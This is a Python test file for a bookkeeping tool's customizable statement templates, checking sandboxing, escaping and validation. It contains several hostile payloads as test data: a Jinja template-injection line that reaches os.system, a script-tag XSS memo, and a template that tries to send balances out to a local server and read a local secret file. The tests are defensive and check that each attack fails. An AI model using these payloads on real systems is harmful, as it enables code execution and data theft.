"""The statement template can be replaced from the books' templates/: sandboxed like letters, validated by check."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ledgerctl.core.templates import STATEMENT_VARIABLES, template_problems
from ledgerctl.render.statement import BUILT_IN, TEMPLATE

DOCS = Path(__file__).resolve().parents[2] / "docs"
PERIOD = ("--from", "2026-10-01", "--to", "2026-10-31")
OVERRIDE = """<!DOCTYPE html><html><body>
<h1>{{ company.name if company else s.books }} · OUR OWN LAYOUT</h1>
<p>{{ s.customer.name }} {{ contact.person }} {{ s.currency }} {{ fmt(s.closing_balance) }} {{ opening_date }}</p>
{% for line in s.lines %}<p>{{ kinds.get(line.type, line.type) }} {{ line.memo }}
{{ fmt(line.debit) if line.debit != zero }}</p>{% endfor %}
</body></html>
"""


def with_template(books, name: str, text: str):  # type: ignore[no-untyped-def]
    """Commit ``templates/NAME`` as a colleague's pull would bring it."""
    folder = books.root / "templates"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    books.git("add", "templates")
    books.git("commit", "-q", "-m", f"template {name}")
    return books


def test_the_books_template_replaces_the_built_in_one_and_escapes(sample_books, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    with_template(sample_books, "statement.html.j2", OVERRIDE)
    assert sample_books.run("check").exit_code == 0, sample_books.run("check").output
    html = sample_books.run("statement", "hx-machinery", *PERIOD, "--format", "html").stdout
    assert "OUR OWN LAYOUT" in html and "华兴机械有限公司 王经理 CNY 97,300.00 2026-09-30" in html
    out = tmp_path / "out"
    assert sample_books.run("statement", "--all", "--out", str(out), *PERIOD).exit_code == 0
    assert all("OUR OWN LAYOUT" in path.read_text(encoding="utf-8") for path in out.iterdir())


def test_an_override_escapes_the_books_text(books) -> None:  # type: ignore[no-untyped-def]
    with_template(books, "statement.html.j2", OVERRIDE)
    assert (
        books.run(
            "add", "invoice", "acme", "10", "--date", "2026-10-05", "--memo", "<script>alert(1)</script>"
        ).exit_code
        == 0
    )
    html = books.run("statement", "acme", *PERIOD, "--format", "html").stdout
    assert "OUR OWN LAYOUT" in html and "<script>alert" not in html and "&lt;script&gt;" in html


@pytest.mark.parametrize("fmt", ["html", "pdf"])
def test_a_template_cannot_escape_the_sandbox(sample_books, tmp_path: Path, fmt: str) -> None:  # type: ignore[no-untyped-def]
    marker = tmp_path / "pwned"
    with_template(
        sample_books, "statement.html.j2", f"{{{{ cycler.__init__.__globals__.os.system('touch {marker}') }}}}\n"
    )
    before = sample_books.snapshot()
    out = tmp_path / "out"
    result = sample_books.run("statement", "--all", "--out", str(out), *PERIOD, "--format", fmt)
    assert result.exit_code == 2, result.output
    assert (
        "templates/statement.html.j2" in result.stderr
        and "unsafe" in result.stderr
        and "Traceback" not in result.output
    )
    assert not marker.exists() and not out.exists() and sample_books.snapshot() == before
    single = sample_books.run("statement", "hx-machinery", *PERIOD, "--format", "html")
    assert single.exit_code == 2 and "templates/statement.html.j2" in single.stderr and not marker.exists()


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("statement.html.j2", "{{ s.customer.name }} {{ s.no_such_key }}\n"),  # passes check, fails at render
        ("_head.html.j2", "{{ s.customer.nmae }}\n"),  # an included partial fails
    ],
)
def test_a_template_failing_at_render_time_names_its_file(sample_books, tmp_path: Path, name: str, text: str) -> None:  # type: ignore[no-untyped-def]
    with_template(sample_books, "statement.html.j2", '{% include "_head.html.j2" %}{{ s.customer.name }}\n')
    with_template(sample_books, "_head.html.j2", "{{ s.to }}\n")
    with_template(sample_books, name, text)
    out = tmp_path / "out"
    result = sample_books.run("statement", "--all", "--out", str(out), *PERIOD)
    assert result.exit_code == 2, result.output
    assert f"templates/{name}" in result.stderr and "Traceback" not in result.output and not out.exists()


def test_check_validates_statement_templates_with_their_own_variables(books) -> None:  # type: ignore[no-untyped-def]
    with_template(books, "statement.html.j2", OVERRIDE)
    clean = books.run("check", "--format", "json")
    assert clean.exit_code == 0, clean.output  # s, company, fmt… are a statement's variables, not a letter's
    with_template(books, "statement.html.j2", "{{ notice.name }}\n{{ s.__class__ }}\n")
    result = books.run("check", "--format", "json")
    assert result.exit_code == 1, result.output
    found = {(p["code"], p["file"], p["line"]) for p in json.loads(result.stdout)["problems"]}
    assert found == {
        ("template-variable", "templates/statement.html.j2", 1),
        ("template-unsafe", "templates/statement.html.j2", 2),
    }
    message = next(p["message"] for p in json.loads(result.stdout)["problems"] if p["code"] == "template-variable")
    assert "statement template" in message and "company" in message


def test_the_built_in_statement_template_passes_and_its_variables_are_documented() -> None:
    assert template_problems(TEMPLATE, (BUILT_IN / TEMPLATE).read_bytes()) == []
    documented = (DOCS / "templates.md").read_text(encoding="utf-8")
    assert all(f"`{name}`" in documented for name in STATEMENT_VARIABLES)


def test_a_printed_template_can_fetch_nothing_nor_read_local_files(sample_books, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import http.server
    import subprocess
    import threading

    from tests.tools import require_tool

    require_tool("chromium")
    pdftotext = require_tool("pdftotext")
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the http.server name
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"LEAKED-BY-NETWORK")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    secret = tmp_path / "secret.txt"
    secret.write_text("LEAKED-FROM-DISK")
    url = f"http://127.0.0.1:{server.server_address[1]}"
    with_template(
        sample_books,
        "statement.html.j2",
        f'<html><head><link rel="stylesheet" href="{url}/css?{{{{ s.closing_balance }}}}"></head><body>'
        f'<p>{{{{ s.customer.name }}}}</p><img src="{url}/img?{{{{ s.customer.id }}}}">'
        f'<iframe src="{url}/frame"></iframe>'
        f'<iframe src="file://{secret}"></iframe><script>document.write("RAN-SCRIPT")</script></body></html>\n',
    )
    out = tmp_path / "pdf"
    try:
        result = sample_books.run("statement", "hx-machinery", *PERIOD, "--format", "pdf", "-o", str(out))
    finally:
        server.shutdown()
    assert result.exit_code == 0, result.output
    text = subprocess.run([pdftotext, str(out), "-"], capture_output=True, text=True, check=True).stdout
    assert "华兴机械有限公司" in text
    assert asked == [] and "LEAKED" not in text and "RAN-SCRIPT" not in text
